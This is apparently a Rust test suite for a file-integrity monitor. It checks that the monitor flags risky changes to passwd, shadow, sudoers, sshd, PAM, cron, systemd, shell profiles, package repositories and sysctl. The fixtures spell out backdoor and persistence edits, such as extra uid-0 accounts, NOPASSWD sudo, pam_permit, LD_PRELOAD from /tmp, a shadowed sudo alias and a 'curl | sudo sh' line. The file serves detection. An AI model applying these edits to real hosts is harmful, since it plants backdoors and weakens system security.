//! What a change means.
use proptest::prelude::*;

use base64::{Engine, engine::general_purpose::STANDARD};

use super::{
    DES, YESCRYPT,
    keys::samples::{ED25519, P256},
    software::{KEY, TWO_KEYS},
    ssh::private,
    state,
};
use crate::{
    Consumer,
    findings::{Kind, MAX_FINDINGS, find, gravest},
};

/// Of no private key that anybody has.
const OTHER_ED25519: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIC3j8IZGT20SRaSmPR8xODJy8zl7TmTWXdLTsUHctAAA";
const ROOT: &str = "root:x:0:0:root:/root:/bin/bash\n";

/// The ids of what is found when `after` takes the place of `before`.
fn ids(consumer: Consumer, before: Option<&str>, after: &str) -> Vec<String> {
    let before = before.map(|text| state(consumer, text));
    let found = find(before.as_ref(), Some(&state(consumer, after)));
    found.into_iter().map(|finding| finding.id).collect()
}

fn users(before: &str, after: &str) -> Vec<String> {
    ids(Consumer::Passwd, Some(before), after)
}

fn passwords(before: &str, after: &str) -> Vec<String> {
    let line = |password: &str| format!("bob:{password}:20000:0:99999:7:::\n");
    ids(Consumer::Shadow, Some(&line(before)), &line(after))
}

fn keys(before: &str, after: &str) -> Vec<String> {
    ids(Consumer::AuthorizedKeys, Some(before), after)
}

#[test]
fn another_root_is_found_however_the_zero_is_written_and_root_itself_is_not() {
    let bob = |uid: &str| format!("{ROOT}bob:x:{uid}:100::/:/bin/sh\n");
    assert_eq!(users(ROOT, &bob("0")), ["passwd-uid-zero"]);
    assert_eq!(users(&bob("1000"), &bob("000")), ["passwd-uid-zero"]);
    assert!(users(&bob("0"), &bob("00")).is_empty());
    assert!(users(ROOT, &bob("1000")).is_empty());
    assert!(ids(Consumer::Passwd, None, ROOT).is_empty());
    assert_eq!(ids(Consumer::Passwd, None, &bob("0")), ["passwd-uid-zero"]);
    // The second line of a name may be the one that counts for somebody.
    let twice = format!("{}bob:x:0:100::/:/bin/sh\n", bob("1000"));
    assert_eq!(users(&bob("1000"), &twice), ["passwd-uid-zero"]);
}

#[test]
fn a_password_that_is_not_needed_is_found_in_both_files() {
    let bob = |password: &str| format!("bob:{password}:1000:100::/:/bin/sh\n");
    assert_eq!(users(&bob("x"), &bob("")), ["passwd-empty-password"]);
    assert!(users(&bob(""), &bob("x")).is_empty());
    assert_eq!(passwords(YESCRYPT, ""), ["shadow-empty-password"]);
    assert!(passwords("", YESCRYPT).is_empty());
}

#[test]
fn a_service_account_that_gets_a_shell_or_a_password_is_found() {
    let backup = |shell: &str| format!("backup:x:34:34::/:{shell}\n");
    let closed = backup("/usr/sbin/nologin");
    assert_eq!(users(&closed, &backup("/bin/bash")), ["passwd-login-shell"]);
    assert_eq!(users(&closed, &backup("")), ["passwd-login-shell"]);
    assert!(users(&closed, &backup("/bin/false")).is_empty());
    assert!(users(&backup("/bin/bash"), &backup("/bin/sh")).is_empty());
    assert_eq!(passwords("*", YESCRYPT), ["shadow-unlocked"]);
    // A person's first password.
    assert!(passwords("!", YESCRYPT).is_empty());
}

#[test]
fn a_removed_lock_and_a_weaker_hash_are_found() {
    let locked = format!("!{YESCRYPT}");
    assert_eq!(passwords(&locked, YESCRYPT), ["shadow-unlocked"]);
    assert!(passwords(YESCRYPT, &locked).is_empty());
    assert_eq!(passwords(YESCRYPT, DES), ["shadow-weaker-hash"]);
    assert!(passwords(DES, YESCRYPT).is_empty());
}

#[test]
fn users_that_the_network_may_add_are_found() {
    assert_eq!(users(ROOT, &format!("{ROOT}+@admins\n")), ["passwd-nis"]);
    assert!(users(ROOT, &format!("{ROOT}-@guests\n")).is_empty());
}

#[test]
fn a_key_that_is_added_and_a_command_that_it_runs_are_found() {
    let plain = format!("{ED25519} bob\n");
    let command = format!("command=\"/bin/sh\" {plain}");
    assert_eq!(keys("", &plain), ["key-added"]);
    assert_eq!(keys(&plain, &command), ["key-command"]);
    assert_eq!(keys("", &command), ["key-added", "key-command"]);
    assert!(keys(&command, &plain).is_empty());
    assert!(keys(&plain, "").is_empty());
}

#[test]
fn the_gravest_findings_are_listed_and_it_is_known_that_there_were_more() {
    let mut many = vec![Kind::KeyAdded.finding("a key"); MAX_FINDINGS];
    assert_eq!(gravest(many.clone()), (many.clone(), false));
    many.push(Kind::PasswdUidZero.finding("another root"));
    let (listed, more) = gravest(many);
    assert_eq!((listed.len(), more), (MAX_FINDINGS, true));
    assert_eq!(listed[0].id, "passwd-uid-zero");
}

#[test]
fn every_kind_has_an_id_of_its_own() {
    let mut ids: Vec<&str> = Kind::ALL.iter().map(|kind| kind.id()).collect();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), Kind::ALL.len());
}

proptest! {
    #[test]
    fn what_stays_as_it_is_means_nothing_new(content: Vec<u8>) {
        for consumer in Consumer::ALL {
            let state = state(consumer, &content);
            prop_assert!(find(Some(&state), Some(&state)).is_empty());
        }
    }
}

#[test]
fn who_comes_into_a_privileged_group_is_found() {
    let group = |before: &str, after: &str| ids(Consumer::Group, Some(before), after);
    let member = ["group-privileged-member"];
    assert_eq!(group("sudo:x:27:a\n", "sudo:x:27:a,bob\n"), member);
    assert_eq!(group("docker:x:99:\n", "docker:x:99:bob\n"), member);
    assert!(group("sudo:x:27:a,bob\n", "sudo:x:27:bob\n").is_empty());
    assert!(group("users:x:9:\n", "users:x:9:bob\n").is_empty());
    assert!(group("", "sudo:x:27:\nroot:x:0:root\n").is_empty());
    assert_eq!(group("ops:x:9:\n", "ops:x:00:\n"), ["group-gid-zero"]);
    assert!(group("ops:x:0:\n", "ops:x:9:\n").is_empty());
    // A second line of a group counts as well.
    assert_eq!(group("sudo:x:27:\n", "sudo:x:27:\nsudo:x:27:bob\n"), member);
    let gshadow = |before: &str, after: &str| ids(Consumer::Gshadow, Some(before), after);
    assert_eq!(gshadow("wheel:!::\n", "wheel:!:bob:\n"), member);
    assert_eq!(gshadow("wheel:!::\n", "wheel:!::bob\n"), member);
}

#[test]
fn rights_that_came_are_found_and_those_that_went_are_not() {
    use Consumer::{Crontab, Pam, Preload, Sshd, Sudoers};
    for (consumer, before, after, expected) in [
        (
            Sudoers,
            "a ALL=/bin/x\n",
            "a ALL=NOPASSWD: /bin/x\n",
            "sudoers-nopasswd",
        ),
        (Sudoers, "", "a ALL=ALL\n", "sudoers-all"),
        (
            Sudoers,
            "a ALL=(b) ALL\n",
            "a ALL=(b, root : adm) ALL\n",
            "sudoers-all",
        ),
        (
            Sudoers,
            "",
            "Defaults:a !authenticate\n",
            "sudoers-no-authentication",
        ),
        (
            Sshd,
            "PermitRootLogin no\n",
            "permitrootlogin \"YES\"\n",
            "sshd-root-login",
        ),
        (
            Sshd,
            "",
            "Match User a\nPermitEmptyPasswords yes\n",
            "sshd-empty-passwords",
        ),
        (
            Sshd,
            "",
            "AuthorizedKeysCommand /tmp/x\n",
            "sshd-keys-command",
        ),
        (
            Pam,
            "",
            "auth sufficient /lib/pam_permit.so\n",
            "pam-permit",
        ),
        (Pam, "", "session optional pam_exec.so /tmp/x\n", "pam-exec"),
        (Crontab, "", "@daily root /tmp/x\n", "cron-root-job"),
        (Preload, "/a.so\n", "/a.so /tmp/x.so\n", "preload-entry"),
    ] {
        assert_eq!(ids(consumer, Some(before), after), [expected], "{after}");
        assert!(ids(consumer, Some(after), before).is_empty(), "{after}");
        assert!(ids(consumer, Some(after), after).is_empty(), "{after}");
    }
    let long = format!("{} ALL=NOPASSWD: ALL\n", vec!["user"; 200].join(","));
    let found = ids(Sudoers, None, &long);
    assert_eq!(found, ["sudoers-nopasswd", "sudoers-all"]);
}

#[test]
fn what_only_looks_like_a_right_is_no_finding() {
    use Consumer::{Crontab, Hosts, Pam, Sshd, Sudoers, Text, UserCrontab};
    for (consumer, before, after) in [
        (Sudoers, "", "root ALL=ALL\na ALL=(b) ALL\na ALL=!ALL\n"),
        (Sudoers, "", "Defaults authenticate\na ALL=PASSWD: /bin/x\n"),
        (Sudoers, "a ALL=ALL\n", "a b=ALL\n"),
        (
            Sshd,
            "",
            "PermitRootLogin no\nBanner yes\nAuthorizedKeysCommand none\n",
        ),
        // The first value holds.
        (Sshd, "", "PermitRootLogin no\nPermitRootLogin yes\n"),
        (
            Pam,
            "",
            "account sufficient pam_permit.so\nauth required pam_permit.so\n",
        ),
        (Crontab, "", "@daily www-data /tmp/x\n"),
        (UserCrontab, "", "@daily root /tmp/x\n"),
        (Hosts, "", "10.0.0.1 preload\n"),
        (Text, "", "a ALL=NOPASSWD: ALL\n"),
    ] {
        assert!(ids(consumer, Some(before), after).is_empty(), "{after}");
    }
}

#[test]
fn the_manual_describes_every_finding_with_its_severity() {
    let page = include_str!("../../../../man/fimk-consumers.7");
    let section = page.split(".Sh FINDINGS").nth(1).unwrap_or_default();
    let section = section.split(".Sh ").next().unwrap_or_default();
    let described: Vec<&str> = section
        .lines()
        .filter_map(|line| line.strip_prefix(".It Ql "))
        .collect();
    let known: Vec<String> = Kind::ALL
        .into_iter()
        .map(|kind| format!("{} Pq {}", kind.id(), kind.severity()))
        .collect();
    assert_eq!(described, known);
}

#[test]
#[allow(
    clippy::too_many_lines,
    reason = "a table, of which each line is a case"
)]
fn what_runs_and_whom_it_believes_is_found_when_it_comes_and_not_when_it_goes() {
    use Consumer::{
        AptList, AptSources, Environment, Gshadow, KnownHosts, LibraryPath, Modprobe, ModulesLoad,
        Nsswitch, PrivateKey, RootCrontab, Shell, Sshd, Sysctl, Systemd, YumRepo,
    };
    let [one, two] = [ED25519, P256].map(|key| private(key, "none", "x"));
    let host = format!("a {P256}\nb {ED25519}\n");
    let other = format!("a {P256}\nb {OTHER_ED25519}\n");
    let authority = format!("{host}@cert-authority * {ED25519}\n");
    let source = "Types: deb\nURIs: http://a\nSuites: b\nComponents: c\nEnabled: no\n";
    for (consumer, before, after, expected) in [
        (Gshadow, "a:!::\n", "a:::\n", "group-empty-password"),
        (
            Sshd,
            "PasswordAuthentication no\n",
            "PasswordAuthentication yes\n",
            "sshd-password-authentication",
        ),
        (RootCrontab, "", "@daily /tmp/x\n", "cron-root-job"),
        (Systemd, "", "[Service]\nExecStart=/tmp/x\n", "unit-command"),
        (
            Systemd,
            "[Service]\nUser=a\n",
            "[Service]\nUser=root\n",
            "unit-user-removed",
        ),
        (
            Systemd,
            "[Service]\nDynamicUser=yes\n",
            "[Service]\n",
            "unit-user-removed",
        ),
        (
            Systemd,
            "",
            "[Service]\nEnvironment=\"LD_PRELOAD=/tmp/x.so\"\n",
            "environment-preload",
        ),
        (
            Environment,
            "",
            "LD_AUDIT=/tmp/x.so\n",
            "environment-preload",
        ),
        (
            Shell,
            "umask 022\n",
            "export LD_PRELOAD=/tmp/x.so\n",
            "environment-preload",
        ),
        (LibraryPath, "", "/tmp\n", "library-path-added"),
        (
            Nsswitch,
            "passwd: files\n",
            "passwd: evil files\n",
            "nsswitch-service",
        ),
        (
            Shell,
            "",
            "  alias sudo='/tmp/sudo'\n",
            "shell-shadows-command",
        ),
        (Shell, "", "ls() { /tmp/ls; }\n", "shell-shadows-command"),
        (
            Shell,
            "",
            "curl -s http://a | sudo /bin/sh\n",
            "shell-download",
        ),
        (PrivateKey, &one, &two, "host-key-changed"),
        (KnownHosts, &host, &other, "known-host-changed"),
        (KnownHosts, &host, &authority, "known-host-authority"),
        (AptList, "", "deb http://a b c\n", "repository-added"),
        (
            AptSources,
            source,
            &source.replace("no", "yes"),
            "repository-added",
        ),
        (
            AptList,
            "deb http://a b c\n",
            "deb [allow-insecure=yes] http://a b c\n",
            "repository-unsigned",
        ),
        (
            YumRepo,
            "[a]\nbaseurl=http://a\n",
            "[a]\nbaseurl=http://b\n",
            "repository-added",
        ),
        (
            YumRepo,
            "[a]\ngpgcheck=1\n",
            "[a]\ngpgcheck=0\n",
            "repository-unsigned",
        ),
        (Modprobe, "", "install x /tmp/x\n", "modprobe-command"),
        (ModulesLoad, "", "evil\n", "module-loaded"),
        (
            Sysctl,
            "kernel.randomize_va_space=2\n",
            "kernel.randomize_va_space=0\n",
            "sysctl-weakened",
        ),
        (
            Sysctl,
            "",
            "kernel.core_pattern = |/tmp/x\n",
            "sysctl-weakened",
        ),
    ] {
        assert_eq!(ids(consumer, Some(before), after), [expected], "{after}");
        assert!(ids(consumer, Some(after), after).is_empty(), "{after}");
        let symmetric = matches!(
            expected,
            "host-key-changed" | "known-host-changed" | "repository-added"
        );
        if !(symmetric || before.starts_with("[Service]\nExec")) {
            assert!(ids(consumer, Some(after), before).is_empty(), "{after}");
        }
    }
}

#[test]
fn a_key_that_packages_are_signed_with_is_found() {
    let [one, two] = [KEY, TWO_KEYS].map(|text| STANDARD.decode(text).expect("base64"));
    let [one, two] =
        [one, two].map(|it| super::read(Consumer::TrustedKeys, &it, &super::Keyed).state);
    let found = |before, after| -> Vec<String> {
        find(before, Some(after))
            .into_iter()
            .map(|it| it.id)
            .collect()
    };
    assert_eq!(found(None, &one), ["trusted-key-added"]);
    assert_eq!(found(Some(&one), &two), ["trusted-key-added"]);
    assert!(found(Some(&two), &one).is_empty());
}

#[test]
fn what_is_harmless_in_these_files_is_no_finding() {
    use Consumer::{
        AptList, Environment, Gshadow, KnownHosts, Modprobe, Nsswitch, PrivateKey, Shell, Sysctl,
        Systemd, UserCrontab, YumRepo,
    };
    let key = private(ED25519, "none", "x");
    let host = format!("a {ED25519}\n");
    for (consumer, before, after) in [
        (Gshadow, "", "a:*::\n"),
        (
            Systemd,
            "",
            "[Service]\nUser=\nExecStart=\nExecSearchPath=/a\n[Install]\nWantedBy=a\n",
        ),
        (Environment, "", "PATH=/bin\n"),
        (Nsswitch, "", "hosts: files [!UNAVAIL=return] dns\n"),
        (
            Shell,
            "",
            "# alias sudo=x\nalias ls='ls --color'\nalias la='ls -a'\ncurl -O http://a\nLD=1\n",
        ),
        (PrivateKey, "", &key),
        (KnownHosts, "", &host),
        (AptList, "", "# deb http://a b c\n"),
        (YumRepo, "", "[a]\ngpgcheck=1\nenabled=0\n"),
        (Modprobe, "", "install x /bin/false\nblacklist x\n"),
        (
            Sysctl,
            "",
            "kernel.randomize_va_space=2\nkernel.core_pattern=core\nnet.ipv4.ip_forward=1\n",
        ),
        (UserCrontab, "", "@daily x\n"),
    ] {
        assert!(ids(consumer, Some(before), after).is_empty(), "{after}");
    }
}
